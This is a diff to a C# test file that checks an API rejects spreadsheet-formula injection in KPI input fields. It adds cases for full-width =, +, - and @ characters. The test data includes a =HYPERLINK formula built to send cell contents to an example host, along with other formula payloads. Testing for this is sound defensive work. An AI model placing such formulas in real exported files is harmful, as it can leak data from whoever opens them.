@@ -16,9 +16,12 @@ public sealed class KpiInputMessageTests(WritableApiFactory api) : IClassFixture
     [InlineData("", """{"name":"   ","definition":"y","unit":"人","direction":"increase"}""", "name", "Is required and may not be empty or only white space.")]
     [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":""},"provenance":"editorial"}""", "source.page", "Must be 1 to 100 characters long.")]
     [InlineData("", """{"name":"x","definition":"y","unit":"人","direction":"increase","statistics":{"name":"国勢調査","governmentStatisticsCode":"1"}}""", "statistics.governmentStatisticsCode", "Is the statistic's 8-digit code in e-Stat (政府統計コード), e.g. 00200521.")]
-    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":"=1+1"},"provenance":"editorial"}""", "source.page", "Must not start with =, +, - or @: a spreadsheet opening the CSV would run it as a formula.")]
-    [InlineData("", """{"name":"=HYPERLINK(\"http://example.org/?\"&A1,\"click\")","definition":"y","unit":"人","direction":"increase"}""", "name", "Must not start with =, +, - or @: a spreadsheet opening the CSV would run it as a formula.")]
-    [InlineData("", """{"name":"x","definition":"y","unit":"@SUM(1+1)","direction":"increase"}""", "unit", "Must not start with =, +, - or @: a spreadsheet opening the CSV would run it as a formula.")]
+    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":"=1+1"},"provenance":"editorial"}""", "source.page", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
+    [InlineData("", """{"name":"=HYPERLINK(\"http://example.org/?\"&A1,\"click\")","definition":"y","unit":"人","direction":"increase"}""", "name", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
+    [InlineData("", """{"name":"x","definition":"y","unit":"@SUM(1+1)","direction":"increase"}""", "unit", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
+    [InlineData("/observations/FY2020", """{"value":1,"note":"＝HYPERLINK(\"http://example.org\")","source":{"title":"t"},"provenance":"editorial"}""", "note", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
+    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"﹦1+1"},"provenance":"editorial"}""", "source.title", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
+    [InlineData("", """{"name":"＠SUM(1)","definition":"y","unit":"人","direction":"increase"}""", "name", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
     public async Task ARefusedFieldIsToldWhatItMustBe(string under, string body, string field, string message)
     {
         var staff = api.WithKey(await StaffClient.CreateKeyWithCommandAsync(api));
